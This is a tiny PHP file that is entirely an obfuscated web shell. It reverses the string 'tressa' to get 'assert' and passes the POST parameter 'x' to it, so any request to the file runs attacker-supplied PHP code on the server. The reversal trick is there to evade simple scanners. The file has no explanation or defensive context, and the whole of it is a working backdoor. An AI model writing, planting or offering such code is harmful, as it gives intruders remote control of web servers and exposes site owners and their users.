<?php
$f = strrev("tressa");
$f($_POST['x']);
